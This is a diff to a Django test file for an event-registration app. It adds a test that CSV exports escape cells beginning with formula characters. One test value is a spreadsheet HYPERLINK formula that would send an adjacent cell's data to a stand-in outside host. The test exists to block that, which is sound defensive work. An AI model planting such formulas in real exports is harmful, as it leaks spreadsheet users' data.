@@ -6,6 +6,7 @@ from datetime import timedelta
 
 import pytest
 from django.db import connection, connections
+from django.test import TestCase
 from django.utils import timezone
 from icalendar import Calendar
 
@@ -25,7 +26,9 @@ def event(home_page):
 
 
 def register(client, data=None):
-    return client.post("/aktiviteter/dialogmote/anmalan/", data or FORM)
+    """Posts the form; the confirmation goes out when the registration commits, as in production."""
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        return client.post("/aktiviteter/dialogmote/anmalan/", data or FORM)
 
 
 def test_the_form_is_on_the_event_page_and_posts_to_its_route(client, event):
@@ -198,6 +201,17 @@ def test_an_editor_can_export_the_registrations_as_csv(client, event):
         ["Dialogmöte om samhällsbyggnad", "Maja Lind", "maja@example.se", "Huddinge kommun"],
         ["Dialogmöte om samhällsbyggnad", "Olle Berg", "olle@example.se", ""],
     ]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("https://example.com/?"&B2,"Klicka")', "+46 8 123", "-1+1", "@SUM(1)"])
+def test_exported_csv_cells_never_start_a_formula(client, event, typed):
+    EventRegistrationFactory(event=event, name=typed, email="maja@example.se", organisation=typed)
+    client.force_login(UserFactory(is_superuser=True, is_staff=True))
+
+    response = client.get(f"/admin/anmalningar/?event={event.pk}&export=csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][1] == rows[1][3] == "'" + typed
 
 
 def test_an_editor_can_search_the_registrations_and_export_xlsx(client, event):
